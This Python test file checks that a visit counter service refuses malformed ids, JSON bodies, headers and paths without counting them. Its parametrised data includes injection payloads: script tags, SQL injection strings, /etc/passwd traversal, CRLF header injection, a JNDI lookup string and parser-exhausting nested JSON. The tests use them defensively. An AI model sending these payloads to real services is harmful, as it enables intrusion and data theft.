"""What is too long, too odd or too much: refused or borne, and never counted by mistake."""

import pytest
from contract.counter import Counter

BAD_IDS = {
    "empty": "",
    "129 characters": "x" * 129,
    "a space": "a%20b",
    "a plus": "a+b",
    "a null byte": "a%00b",
    "a line break": "a%0D%0AX-Evil:%201",
    "not UTF-8": "%FF%FE",
    "an umlaut": "%C3%A4",
    "an emoji": "%F0%9F%98%80",
    "a script": "%3Cscript%3Ealert(1)%3C/script%3E",
    "a quote": "%27%20OR%201=1--",
    "a path": "..%2F..%2Fetc%2Fpasswd",
    "encoded twice": "%2561",
    "half encoded": "%zz",
}

BAD_BODIES: dict[str, tuple[bytes, int, str]] = {
    "no JSON": (b"junk", 400, "bad_request"),
    "half of it": (b'{"vid": "a', 400, "bad_request"),
    "a form": (b"vid=somebody", 400, "bad_request"),
    "a list": (b'["somebody"]', 400, "bad_request"),
    "a text": (b'"somebody"', 400, "bad_request"),
    "null bytes": (b"\0\0\0", 400, "bad_request"),
    "not UTF-8": (b"\xff\xfe\xfd", 400, "bad_request"),
    "deep": (b"[" * 10_000, 400, "bad_request"),
    "deep objects": (b'{"a":' * 3_000, 400, "bad_request"),
    "a huge number": (b'{"vid": ' + b"9" * 9_000 + b"}", 400, "bad_request"),
    "an id that is a number": (b'{"vid": 5}', 400, "invalid_vid"),
    "an id that is true": (b'{"vid": true}', 400, "invalid_vid"),
    "an id that is a list": (b'{"vid": ["a"]}', 400, "invalid_vid"),
    "an id that is empty": (b'{"vid": ""}', 400, "invalid_vid"),
    "too large": (b'{"vid": "a", "more": "' + b"x" * 17_000 + b'"}', 413, "too_large"),
}


@pytest.mark.parametrize("kind", BAD_IDS)
def test_a_bad_id_is_refused(counter: Counter, kind: str) -> None:
    """An id with other characters, or too long, is refused with 400 and not counted."""
    answer = counter.still(lambda: counter.ask(f"/counter?vid={BAD_IDS[kind]}", "POST"))

    assert answer.status == 400
    assert not answer.ours or answer.told.get("error") == "invalid_vid"


@pytest.mark.parametrize("kind", BAD_BODIES)
def test_a_bad_body_is_refused(counter: Counter, kind: str) -> None:
    """A body that is no JSON object, has a bad id or is too large is refused and not counted."""
    body, status, word = BAD_BODIES[kind]
    answer = counter.still(lambda: counter.ask("/counter", "POST", {"Content-Type": "application/json"}, body))

    assert answer.status == status
    assert not answer.ours or answer.told.get("error") == word


def test_fifty_parameters_are_borne(counter: Counter) -> None:
    """A query may have fifty parameters."""
    assert counter.ask("/counter?peek=1&" + "&".join(["a=b"] * 49)).status == 200


@pytest.mark.parametrize("method, path", [("POST", "/counter"), ("GET", "/badge.svg")])
def test_more_parameters_are_refused(counter: Counter, method: str, path: str) -> None:
    """A visit or a badge with more than fifty parameters is refused, and counts nothing."""
    answer = counter.still(lambda: counter.ask(f"{path}?" + "&".join(["a=b"] * 60), method))

    assert answer.status == 400


@pytest.mark.parametrize("length", [2_000, 6_000, 20_000])
def test_a_long_query_is_borne_or_refused(counter: Counter, length: int) -> None:
    """A long query is answered or refused, never a failure of the server."""
    answer = counter.still(lambda: counter.ask("/counter?peek=1&x=" + "x" * length))

    assert answer.status == 200 or 400 <= answer.status < 500


@pytest.mark.parametrize("name", ["User-Agent", "Referer", "Origin", "Authorization", "X-Anything"])
def test_a_long_header_is_borne_or_refused(counter: Counter, name: str) -> None:
    """A long header is answered or refused, never a failure of the server."""
    answer = counter.still(lambda: counter.ask("/counter?peek=1", headers={name: "x" * 6_000}))

    assert answer.status == 200 or 400 <= answer.status < 500


@pytest.mark.parametrize("value", ["äöü", "☃", "a\tb", "\x7f", "%00", "${jndi:ldap://x.invalid/a}", "'; DROP TABLE--"])
def test_odd_headers_are_borne(counter: Counter, value: str) -> None:
    """Odd characters in a header are no matter, or refused."""
    answer = counter.still(lambda: counter.ask("/counter?peek=1", headers={"User-Agent": value, "Referer": value}))

    assert answer.status == 200 or 400 <= answer.status < 500


@pytest.mark.parametrize(
    "path", ["/counter%00", "/%63ounter%2f..%2fstats", "/..%2f..%2fetc%2fpasswd", "/%FF", "/;/stats"]
)
def test_odd_paths_lead_nowhere(counter: Counter, path: str) -> None:
    """Odd characters in a path lead nowhere, and certainly not past the guard."""
    answer = counter.still(lambda: counter.ask(path))

    assert 400 <= answer.status < 500
    assert "days" not in answer.told


def test_the_first_of_two_counts(counter: Counter) -> None:
    """Of a repeated parameter the first is taken."""
    good_first = counter.still(lambda: counter.ask("/counter?peek=1&peek=0", "POST"))
    bad_first = counter.still(lambda: counter.ask("/counter?vid=&vid=somebody", "POST"))

    assert good_first.told.get("reason") == "peek"
    assert bad_first.status == 400


def test_letters_may_be_encoded(counter: Counter) -> None:
    """Percent-encoded letters are the letters."""
    assert counter.still(lambda: counter.ask("/counter?%70eek=%31", "POST")).told.get("reason") == "peek"
